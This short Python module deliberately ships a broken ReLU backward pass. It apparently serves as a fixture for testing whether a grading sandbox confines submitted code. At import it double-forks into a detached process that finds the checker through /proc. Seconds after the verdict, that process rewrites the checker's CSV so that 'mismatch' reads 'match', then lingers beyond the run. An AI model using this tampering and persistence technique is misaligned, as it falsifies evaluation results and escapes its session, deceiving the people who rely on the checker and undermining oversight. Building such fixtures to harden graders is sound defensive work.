"""Leaves a grandchild behind (fork, setsid, fork) that rewrites the checker's CSV after the run.

relu_backward forgets the mask (wrong on purpose). Unconfined, the grandchild is
adopted by init, outlives the check, and edits the CSV seconds after the checker
printed its verdict.
"""

import os
import time

import numpy as np


def find_csv():
    try:
        pids = os.listdir("/proc")
    except OSError:
        return None
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            if "--out" in argv and "check" in argv:
                return os.path.join(os.readlink(f"/proc/{pid}/cwd"), argv[argv.index("--out") + 1])
        except (OSError, ValueError, IndexError):
            continue
    return None


def linger():
    target = find_csv()
    time.sleep(4)  # the check is over by now
    if target:
        try:
            with open(target) as f:
                text = f.read()
            with open(target, "w") as f:
                f.write(text.replace("mismatch", "match"))
        except OSError:
            pass
    time.sleep(60)  # and stays, for whatever comes next
    os._exit(0)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        linger()
    os._exit(0)


def relu_forward(x):
    return np.maximum(0, x), x


def relu_backward(dout, cache):
    return dout.copy()
